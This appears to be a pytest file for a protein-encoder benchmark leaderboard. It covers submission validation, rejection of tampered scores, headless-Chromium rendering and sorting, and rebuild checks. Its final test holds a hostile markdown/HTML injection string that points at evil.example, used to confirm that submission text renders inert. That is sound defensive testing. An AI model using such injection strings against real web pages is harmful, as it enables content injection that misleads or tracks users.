    assert main(argv) == 0
    printed = capsys.readouterr().out
    assert f"wrote {out}" in printed and "leaderboard/submissions/toy-aac.lbtest.json" in printed
    sub = json.loads(out.read_text())
    assert sub["encoder"] == {"name": "Toy AAC", "dim": 16, "parameters": 0, "training_data": "none",
                              "licence": "MIT", "link": "https://example.org/aac"}
    assert main(["leaderboard", "validate", str(out)]) == 0
    assert "valid: encoder 'Toy AAC', suite 'lbtest', probes linear (3 tasks)" in capsys.readouterr().out

    result_of(sub, "lb_reg")["scores"]["test"]["spearman"] = 0.999
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(sub))
    assert main(["leaderboard", "validate", str(out), str(bad)]) == 1
    err = capsys.readouterr().err
    assert f"{bad}: invalid submission, 1 problem(s):" in err and "claims test spearman 0.999" in err
    assert "1 of 2 file(s) invalid" in err

    board = tmp_path / "lb"
    (board / "submissions").mkdir(parents=True)
    shutil.copy(out, board / "submissions" / "toy-aac.lbtest.json")
    shutil.copy(bad, board / "submissions" / "bad.lbtest.json")
    code = main(["leaderboard", "build", "--submissions", str(board / "submissions"), "--out", str(board)])
    captured = capsys.readouterr()
    assert code == 1 and "1 invalid submission(s) were left out" in captured.err
    assert "suite lbtest: 1 entries, 3 tasks" in captured.out and (board / "index.html").is_file()


def test_create_submission_for_our_own_entries(loader, tmp_path):
    """The main job's path: results folder -> validated submission file -> leaderboard, no CLI."""
    results = tmp_path / "results"
    for task_name in TASKS:
        task = loader.task(task_name)
        for enc, quality in (("toy", 0.8), ("other", 0.5)):
            res = make_result(task, predictions(task, quality, 5), encoder=enc)
            write_result(results / result_filename(enc, res["encoder"]["config"], task_name, "linear"), res)
    sweep = make_result(loader.task("lb_bin"), predictions(loader.task("lb_bin"), 0.7, 6))
    sweep["encoder"]["config"] = {"k": 2}  # another configuration of toy (a sweep level)
    write_result(results / "sweep" / result_filename("toy", {"k": 2}, "lb_bin", "linear"), sweep)
    (results / "sweep" / "summary.json").write_text("{}")  # not a result: ignored
    subs = tmp_path / "lb" / "submissions"
    meta = {"parameters": 0, "dim": 16, "training_data": "none", "licence": "MIT", "link": "https://example.org/aac"}

    with pytest.raises(SubmissionError, match="results of 3 encoder configurations"):
        create_submission(results, subs, suite=SUITE, name="Toy AAC", loader=loader, **meta)
    with pytest.raises(SubmissionError, match="results of 2 encoder configurations"):
        create_submission(results, subs, suite=SUITE, name="Toy AAC", encoder="toy", loader=loader, **meta)
    with pytest.raises(SubmissionError, match=r"dimension is \[16\], not the dim=32 given"):
        create_submission(results, subs, suite=SUITE, name="Toy AAC", encoder="toy", config={"k": 1},
                          loader=loader, **{**meta, "dim": 32})
    path = create_submission(results, subs, suite=SUITE, name="Toy AAC", encoder="toy", config={"k": 1},
                             description="amino-acid composition", loader=loader, **meta)
    assert path == subs / "toy-aac.lbtest.json" and (path.stat().st_mode & 0o777) == 0o644
    valid = validate_submission(path, loader=loader)
    assert valid.encoder == {"name": "Toy AAC", "parameters": 0, "dim": 16, "training_data": "none",
                             "licence": "MIT", "link": "https://example.org/aac",
                             "description": "amino-acid composition"}
    assert sorted(valid.scores["linear"]) == sorted(TASKS)

    # an invalid submission raises with every problem and writes nothing
    tampered = next(results.glob("other-*__lb_bin__linear.json"))
    res = json.loads(tampered.read_text())
    res["scores"]["test"]["accuracy"] = 0.99
    write_result(tampered, res)
    with pytest.raises(SubmissionError, match="claims test accuracy 0.99") as info:
        create_submission(results, subs, suite=SUITE, name="Other", encoder="other", loader=loader, **meta)
    assert len(info.value.problems) == 1 and not (subs / "other.lbtest.json").exists()

    report = build_leaderboard(subs, tmp_path / "lb", loader=loader, n_ci=50, n_test=50)
    assert report.invalid == {} and [r.entry.name for r in report.tables[0].rows] == ["Toy AAC"]


def test_real_smoke_task(mirror, tmp_path):
    """The registry's own smoke task: split hashes and test ids of the real data."""
    loader = TaskLoader()
    task = loader.task("human_ppi_example")
    res = make_result(task, predictions(task, 0.7, 2), encoder="aac", dim=20)
    sub = make_submission([res], suite="smoke", name="AAC", meta=META)
    valid = validate_submission(sub, loader=loader)
    assert valid.scores["linear"]["human_ppi_example"] == pytest.approx(res["scores"]["test"]["accuracy"])
    res["task"]["split_hashes"]["train"] = task.split_hashes()["valid"]
    problems = problems_of(sub, loader)
    assert len(problems) == 1 and "split hash of 'train'" in problems[0]


# ---------------------------------------------------------------- the page in a real browser

CHROMIUM = next((shutil.which(b) for b in ("chromium", "chromium-browser") if shutil.which(b)), None)
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no chromium binary (CI installs Debian's chromium)")


def chromium(tmp_path: Path, *args: str) -> str:
    profile = tmp_path / f"profile-{len(list(tmp_path.glob('profile-*')))}"
    cmd = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
           "--disable-background-networking", "--disable-component-update", "--disable-sync",
           f"--user-data-dir={profile}", *args]
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


class _Rows(HTMLParser):
    """Entries (data-entry) and cell texts of the first leaderboard table, plus its sort state."""

    def __init__(self):
        super().__init__()
        self.rows, self.sorted, self.aria, self._in_cell, self._depth = [], None, {}, False, 0

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "table" and "lb" in (a.get("class") or "").split():
            self.sorted = a.get("data-sorted")
        if tag == "th" and a.get("aria-sort"):
            self.aria[a["data-key"]] = a["aria-sort"]
        if tag == "tr" and "data-entry" in a:
            self.rows.append([a["data-entry"]])
        if tag == "td" and self.rows:
            self._in_cell = True
            self.rows[-1].append("")

    def handle_endtag(self, tag):
        if tag == "td":
            self._in_cell = False

    def handle_data(self, data):
        if self._in_cell:
            self.rows[-1][-1] += data


@needs_chromium
def test_page_renders_and_sorts_in_headless_chromium(board, loader, tmp_path):
    out, _ = board
    build(out, loader)
    rows = list(csv.DictReader(io.StringIO((out / "leaderboard.csv").read_text())))
    url = (out / "index.html").resolve().as_uri()

    dom = _Rows()
    dom.feed(chromium(tmp_path, "--dump-dom", url))
    assert [r[0] for r in dom.rows] == [r["entry"] for r in rows]  # default: mean-rank order
    for cells, r in zip(dom.rows, rows, strict=True):
        assert cells[2] == r["encoder"] and cells[3] == r["probe"] and cells[6] == f"{float(r['mean_rank']):.2f}"
        assert cells[7].startswith(f"{float(r['lb_bin']):.4f} [")  # first task column, as in the CSV
    assert dom.sorted is None

    # the page's JS honours #sort=KEY[:asc|desc] on load: the same code path as a header click
    dom = _Rows()
    dom.feed(chromium(tmp_path, "--dump-dom", url + "#sort=lb_reg:asc"))
    expected = [r["entry"] for r in sorted(rows, key=lambda r: (float(r["lb_reg"]), rows.index(r)))]
    assert [r[0] for r in dom.rows] == expected and expected != [r["entry"] for r in rows]
    assert dom.sorted == "lb_reg:asc" and dom.aria == {"lb_reg": "ascending"}

    dom = _Rows()
    dom.feed(chromium(tmp_path, "--dump-dom", url + "#sort=encoder"))
    assert [r[2] for r in dom.rows] == sorted((r["encoder"] for r in rows), key=str.lower)
    assert dom.sorted == "encoder:asc"

    shot = tmp_path / "leaderboard.png"
    chromium(tmp_path, f"--screenshot={shot}", "--window-size=1280,900", "--hide-scrollbars", url)
    data = shot.read_bytes()
    assert data.startswith(b"\x89PNG\r\n\x1a\n") and len(data) > 10_000
    width, height = struct.unpack(">II", data[16:24])
    assert (width, height) == (1280, 900)
    if os.environ.get("LSDBENCH_SCREENSHOT_DIR"):  # keep it for a human to look at
        shutil.copy(shot, Path(os.environ["LSDBENCH_SCREENSHOT_DIR"]) / "leaderboard.png")


@needs_chromium
def test_page_sorts_by_cost_with_unknown_costs_last(board, loader, tmp_path):
    out, subs = board
    add_costs(out, subs)
    build(out, loader)
    rows = list(csv.DictReader(io.StringIO((out / "leaderboard.csv").read_text())))
    url = (out / "index.html").resolve().as_uri()
    unknown = [r["entry"] for r in rows if not r["residues_per_s"]]  # in mean-rank order: ties keep it
    dom = _Rows()
    dom.feed(chromium(tmp_path, "--dump-dom", url + "#sort=residues_per_s"))  # first click: fastest first
    assert [r[0] for r in dom.rows] == ["weak/linear", "strong/linear", *unknown]
    assert dom.sorted == "residues_per_s:desc" and [r[-3] for r in dom.rows][:2] == ["500K", "2K"]
    dom = _Rows()
    dom.feed(chromium(tmp_path, "--dump-dom", url + "#sort=peak_rss:asc"))
    assert [r[0] for r in dom.rows] == ["weak/linear", "strong/linear", *unknown]
    dom = _Rows()
    dom.feed(chromium(tmp_path, "--dump-dom", url + "#sort=peak_rss:desc"))  # unknown last either way
    assert [r[0] for r in dom.rows] == ["strong/linear", "weak/linear", *unknown]


def test_committed_leaderboard_validates_and_equals_a_rebuild(tmp_path):
    """The committed tables are what `lsdbench leaderboard build` makes from the committed submissions."""
    board = Path(__file__).resolve().parent.parent / "leaderboard"
    subs = sorted((board / "submissions").glob("*.json"))
    for path in subs:
        validate_submission(path)
    out = tmp_path / "board"
    shutil.copytree(board / "submissions", out / "submissions")
    if (board / "figures").is_dir():
        shutil.copytree(board / "figures", out / "figures")
    report = build_leaderboard(out / "submissions", out)
    assert not report.invalid
    for name in ("README.md", "leaderboard.csv", "index.html"):
        assert (out / name).read_bytes() == (board / name).read_bytes(), f"leaderboard/{name} is stale: rebuild it"
    assert sorted(p.name for p in out.glob("cost_*.png")) == sorted(p.name for p in board.glob("cost_*.png"))
    for path in board.glob("cost_*.png"):
        assert (out / path.name).read_bytes() == path.read_bytes(), f"leaderboard/{path.name} is stale"
    names = {json.loads(p.read_text())["encoder"]["name"] for p in subs}
    csv_text = (board / "leaderboard.csv").read_text()
    for entry in names:  # the CSV holds names as they are; the README escapes Markdown in them
        assert entry in csv_text


def test_committed_claims_and_sweep_tables_are_what_the_committed_files_give(tmp_path):
    """hypotheses.md/.json are the entries file's hypotheses re-tested from the committed submissions, and
    the sweep tables and figures are rebuilt from the committed sweep results (as a partial main job
    publishes them): every number in them comes from a committed file."""
    pytest.importorskip("reference_models")
    from lsdbench.run.entries import load_plan
    from lsdbench.run.publish import rebuild_sweeps, retest_hypotheses
    from reference_models.evaluation.encoders import CHECKPOINTS

    if not (CHECKPOINTS / "lsd_nm" / "meta.json").is_file():
        pytest.skip("no committed checkpoints")
    root = Path(__file__).resolve().parent.parent
    board = root / "leaderboard"
    plan = load_plan(root / "leaderboard" / "entries.toml")
    out = tmp_path / "board"
    retest_hypotheses(plan, board / "submissions", out, loader=TaskLoader())
    for name in ("hypotheses.md", "hypotheses.json"):
        assert (out / name).read_bytes() == (board / name).read_bytes(), f"leaderboard/{name} is stale"
    shutil.copytree(board / "sweep" / "results", out / "sweep" / "results")
    rebuild_sweeps(plan, out)
    for path in sorted((board / "sweep").glob("sweep_*")):
        assert (out / "sweep" / path.name).read_bytes() == path.read_bytes(), f"leaderboard/sweep/{path.name}"
    for path in sorted((board / "figures").glob("sweep_*.png")):
        assert (out / "figures" / path.name).read_bytes() == path.read_bytes(), f"leaderboard/figures/{path.name}"


def test_markdown_cells_render_as_text_only():
    """Rendered with a CommonMark parser, submission text yields no image, link or HTML element."""
    markdown_it = pytest.importorskip("markdown_it")
    from lsdbench.leaderboard.render import _md

    hostile = ("![x](https://evil.example/i.png) [y](https://evil.example) <img src=x> `code` *em* "
               "<https://evil.example> &lt;b&gt; | cell")
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(f"| a |\n|---|\n| {_md(hostile)} |\n")
    assert "<img" not in html and "<a " not in html and "<code>" not in html and "<em>" not in html
    assert "<td>![x](https://evil.example/i.png) [y](https://evil.example)" in html.replace("\\", "")
